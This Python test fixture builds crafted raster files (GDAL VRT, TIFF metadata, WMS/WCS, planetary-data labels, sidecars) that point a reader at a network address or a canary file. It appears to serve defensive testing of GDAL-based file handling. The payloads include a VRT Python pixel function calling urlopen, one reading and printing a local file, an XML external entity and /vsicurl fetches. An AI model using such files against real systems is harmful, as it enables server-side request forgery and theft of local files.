"""Rasters that ask their reader to look elsewhere, under the name of a picture.

`RASTER` maps a name to a function of (address, path of the canary) that returns the
bytes of such a file; `BESIDE` holds what may lie beside a sound one.
"""

from __future__ import annotations

import json
import struct

PIXELS = 'rasterXSize="20" rasterYSize="1"'


def _vrt(inner, more=""):
    return f"<VRTDataset {PIXELS}{more}>{inner}</VRTDataset>".encode()


def _band(inner, more=""):
    return f'<VRTRasterBand dataType="Byte" band="1"{more}>{inner}</VRTRasterBand>'


def _simple(source):
    return (
        f"<SimpleSource><SourceFilename>{source}</SourceFilename>"
        "<SourceBand>1</SourceBand></SimpleSource>"
    )


def _python(code):
    return (
        "<PixelFunctionType>f</PixelFunctionType>"
        "<PixelFunctionLanguage>Python</PixelFunctionLanguage>"
        f"<PixelFunctionCode><![CDATA[{code}]]></PixelFunctionCode>"
    )


def tiff(*, metadata="", citation="", endless=False, magic=b"II*\0"):
    """A sound TIFF of 4 x 4 bytes, with GDAL's metadata and a name of its CRS."""
    entries, tail = [], b""
    begin = 8 + 2 + 12 * (9 + bool(metadata) + 2 * bool(citation)) + 4
    pixels = bytes(range(16))

    def add(tag, kind, values):
        nonlocal tail
        widths = {2: "s", 3: "H", 4: "I"}
        if kind == 2:
            data = values + b"\0"
            count = len(data)
        else:
            data = struct.pack(f"<{len(values)}{widths[kind]}", *values)
            count = len(values)
        if len(data) > 4:
            place = struct.pack("<I", begin + len(tail))
            tail += data + b"\0" * (len(data) % 2)
        else:
            place = data.ljust(4, b"\0")
        entries.append(struct.pack("<HHI4s", tag, kind, count, place))

    for tag, kind, values in (
        (256, 3, [4]), (257, 3, [4]), (258, 3, [8]), (259, 3, [1]), (262, 3, [1]),
    ):  # fmt: skip
        add(tag, kind, values)
    at = len(entries)
    add(277, 3, [1])
    add(278, 3, [4])
    add(279, 4, [16])
    if citation:
        text = f"{citation}|".encode()
        # one key: model is geographic, user-defined, with a citation
        add(34735, 3, [1, 1, 0, 3, 1024, 0, 1, 2, 2048, 0, 1, 32767, 2049, 34737,
                       len(text), 0])  # fmt: skip
        add(34737, 2, text)
    if metadata:
        add(42112, 2, metadata.encode())
    entries.insert(at, struct.pack("<HHII", 273, 4, 1, begin + len(tail)))
    following = 8 if endless else 0
    return (
        magic
        + struct.pack("<IH", 8, len(entries))
        + b"".join(entries)
        + struct.pack("<I", following)
        + tail
        + pixels
    )


def _tagged(item):
    return tiff(metadata=f"<GDALMetadata>{item}</GDALMetadata>")


def _overviews(file, *, name="OVERVIEW_FILE", domain="OVERVIEWS"):
    return _tagged(f'<Item name="{name}" domain="{domain}">{file}</Item>')


def _label(text):
    return text.encode().ljust(2048, b" ")


RASTER = {
    "raster_of_raw_bytes": lambda _, file: _vrt(
        _band(
            f'<SourceFilename relativetoVRT="0">{file}</SourceFilename>',
            ' subClass="VRTRawRasterBand"',
        )
    ),
    "raster_of_raw_bytes_beside": lambda *_: _vrt(
        _band(
            '<SourceFilename relativeToVRT="1">../elsewhere/canary.csv'
            "</SourceFilename>",
            ' subClass="VRTRawRasterBand"',
        )
    ),
    "raster_simple_source": lambda net, _: _vrt(
        _band(_simple(f"/vsicurl/{net}/a.tif"))
    ),
    "raster_plain_address": lambda net, _: _vrt(_band(_simple(f"{net}/a.tif"))),
    "raster_streamed": lambda net, _: _vrt(
        _band(_simple(f"/vsicurl_streaming/{net}/a.tif"))
    ),
    "raster_complex_source": lambda net, _: _vrt(
        _band(_simple(f"/vsicurl/{net}/a.tif").replace("SimpleSource", "ComplexSource"))
    ),
    "raster_mask": lambda net, _: _vrt(
        f"<MaskBand>{_band(_simple(f'/vsicurl/{net}/a.tif'))}</MaskBand>"
    ),
    "raster_overview": lambda net, _: _vrt(
        _band(
            f"<Overview><SourceFilename>/vsicurl/{net}/o.tif</SourceFilename>"
            "</Overview>"
        )
    ),
    "raster_warped": lambda net, _: _vrt(
        "<GDALWarpOptions><SourceDataset>"
        f"/vsicurl/{net}/a.tif</SourceDataset></GDALWarpOptions>",
        ' subClass="VRTWarpedDataset"',
    ),
    "raster_sharpened": lambda net, _: _vrt(
        "<PansharpeningOptions><PanchroBand><SourceFilename>"
        f"/vsicurl/{net}/a.tif</SourceFilename></PanchroBand></PansharpeningOptions>",
        ' subClass="VRTPansharpenedDataset"',
    ),
    "raster_processed": lambda net, _: _vrt(
        f"<Input><SourceFilename>/vsicurl/{net}/a.tif</SourceFilename></Input>",
        ' subClass="VRTProcessedDataset"',
    ),
    "raster_python": lambda net, _: _vrt(
        _band(
            _python(
                "import urllib.request\n"
                "def f(*a, **k):\n"
                f"    urllib.request.urlopen('{net}/x')\n"
            ),
            ' subClass="VRTDerivedRasterBand"',
        )
    ),
    "raster_python_file": lambda _, file: _vrt(
        _band(
            _python(f"def f(ins, out, *a, **k):\n    print(open(r'{file}').read())\n"),
            ' subClass="VRTDerivedRasterBand"',
        )
    ),
    "raster_of_memory": lambda *_: _vrt(
        _band(_simple("MEM:::DATAPOINTER=1024,PIXELS=20,LINES=1,DATATYPE=Byte"))
    ),
    "raster_in_utf16": lambda net, _: (
        _vrt(_band(_simple(f"/vsicurl/{net}/a.tif"))).decode().encode("utf-16")
    ),
    "raster_after_64_kib": lambda _, file: (
        b"<!--" + b" " * 70_000 + b"-->" + _vrt(_band(_simple(file)))
    ),
    "raster_wmts": lambda net, _: (
        f"<GDAL_WMTS><GetCapabilitiesUrl>{net}/c</GetCapabilitiesUrl></GDAL_WMTS>"
    ).encode(),
    "raster_wcs": lambda net, _: (
        f"<WCS_GDAL><ServiceURL>{net}/?</ServiceURL><CoverageName>a</CoverageName>"
        "</WCS_GDAL>"
    ).encode(),
    "raster_tms": lambda net, _: (
        f'<TileMap version="1.0.0" tilemapservice="{net}"><TileFormat/></TileMap>'
    ).encode(),
    "raster_wms_of_a_file": lambda _, file: (
        '<GDAL_WMS><Service name="TMS"><ServerUrl>'
        f"{file.as_uri()}</ServerUrl></Service></GDAL_WMS>"
    ).encode(),
    "raster_tile_index": lambda net, _: (
        "<GDALTileIndexDataset><IndexDataset>"
        f"/vsicurl/{net}/i.gpkg</IndexDataset></GDALTileIndexDataset>"
    ).encode(),
    "raster_cached": lambda net, _: (
        f"<MRF_META><CachedSource><Source>/vsicurl/{net}/a.tif</Source></CachedSource>"
        '<Raster><Size x="20" y="1" c="1"/></Raster></MRF_META>'
    ).encode(),
    "raster_ers_label": lambda _, file: _label(
        f'DatasetHeader Begin\n\tDataFile = "{file}"\n\tRasterInfo Begin\n'
        "\t\tCellType = Unsigned8BitInteger\n\t\tNrOfLines = 1\n"
        "\t\tNrOfCellsPerLine = 20\n\tRasterInfo End\nDatasetHeader End\n"
    ),
    "raster_pds_label": lambda _, file: _label(
        f'PDS_VERSION_ID = PDS3\r\n^IMAGE = "{file}"\r\nOBJECT = IMAGE\r\n'
        "LINES = 1\r\nLINE_SAMPLES = 20\r\nSAMPLE_BITS = 8\r\n"
        "SAMPLE_TYPE = UNSIGNED_INTEGER\r\nEND_OBJECT = IMAGE\r\nEND\r\n"
    ),
    "raster_isis_label": lambda _, file: _label(
        f"Object = IsisCube\n  Object = Core\n    ^Core = {file}\n"
        "    Group = Dimensions\n Samples = 20\n Lines = 1\n Bands = 1\n"
        "    End_Group\n  End_Object\nEnd_Object\nEnd\n"
    ),
    "raster_stac_assets": lambda net, _: json.dumps(
        {"stac_version": "1.0.0", "asset_templates": {"a": {"href": f"{net}/a"}}}
    ).encode(),
    "raster_pipeline": lambda net, _: json.dumps(
        {
            "type": "gdal_streamed_alg",
            "command_line": f"gdal raster pipeline ! read /vsicurl/{net}/a.tif",
        }
    ).encode(),
    "tiff_overviews_file": lambda _, file: _overviews(file),
    "tiff_overviews_net": lambda net, _: _overviews(f"/vsicurl/{net}/o.tif"),
    "tiff_overviews_in_small_letters": lambda net, _: _overviews(
        f"{net}/o.tif", name="overview_file", domain="overviews"
    ),
    "tiff_overviews_by_entity": lambda net, _: _overviews(
        f"/vsicurl/{net}/o.tif", name="&#79;VERVIEW_FILE"
    ),
    "tiff_mask_file": lambda net, _: _overviews(
        f"/vsicurl/{net}/o.tif", name="MASK_FILE", domain=""
    ),
    "tiff_geolocation": lambda net, _: _overviews(
        f"/vsicurl/{net}/x.tif", name="X_DATASET", domain="GEOLOCATION"
    ),
    "tiff_metadata_entity": lambda _, file: tiff(
        metadata=f'<!DOCTYPE r [<!ENTITY x SYSTEM "{file}">]><GDALMetadata>'
        '<Item name="a">&x;</Item></GDALMetadata>'
    ),
    "tiff_metadata_broken": lambda net, _: tiff(
        metadata=f'<GDALMetadata><Item name="OVERVIEW_FILE">{net}/o.tif'
    ),
    "tiff_metadata_vrt": lambda net, _: tiff(
        metadata='<GDALMetadata><Item name="x" domain="xml:VRT">'
        f"&lt;VRTDataset&gt;{net}&lt;/VRTDataset&gt;</Item></GDALMetadata>"
    ),
    "tiff_crs_grid_file": lambda _, file: tiff(
        citation='ESRI PE String = GEOGCS["x",DATUM["d",SPHEROID["s",6378137,298]],'
        'PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433],'
        f'EXTENSION["PROJ4","+proj=longlat +nadgrids={file}"]]'
    ),
    "tiff_without_an_end": lambda *_: tiff(endless=True),
}


def beside(net, file):
    """What may lie beside a sound ``a.tif``: (end of the name, bytes)."""
    vrt = _vrt(_band(_simple(f"/vsicurl/{net}/a.tif")))
    linked = (
        '<PAMDataset><Metadata domain="OVERVIEWS"><MDI key="OVERVIEW_FILE">'
        f"{file}</MDI></Metadata></PAMDataset>"
    )
    return {
        "a.tif.aux.xml": linked.encode(),
        "a.tif.ovr": vrt,
        "a.tif.msk": vrt,
        "a.tfw": b"1\n0\n0\n-1\n107\n40\n",
        "a.prj": f"+init={file}:1".encode(),
        "a.aux": b"EHFA_HEADER_TAG" + vrt,
        "a_RPC.TXT": b"LINE_OFF: 1\n",
    }
